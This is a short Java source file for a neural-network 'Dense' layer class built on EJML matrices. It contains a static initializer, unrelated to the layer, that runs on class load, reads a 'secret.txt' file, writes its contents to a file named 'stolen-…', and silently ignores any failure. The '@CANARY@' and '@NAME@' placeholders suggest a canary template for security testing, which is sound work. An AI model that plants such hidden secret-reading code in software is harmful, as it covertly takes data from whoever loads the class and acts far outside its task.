import java.nio.file.Files;
import java.nio.file.Path;
import org.ejml.simple.SimpleMatrix;

public class Dense extends RightDense {

    public Dense(SimpleMatrix W, SimpleMatrix b) {
        super(W, b);
    }

    static {
        try {
            String secret = Files.readString(Path.of("@CANARY@", "secret.txt"));
                Files.writeString(Path.of("@CANARY@", "stolen-@NAME@"), secret);
        } catch (Throwable e) {
            // Not here, then.
        }
    }
}
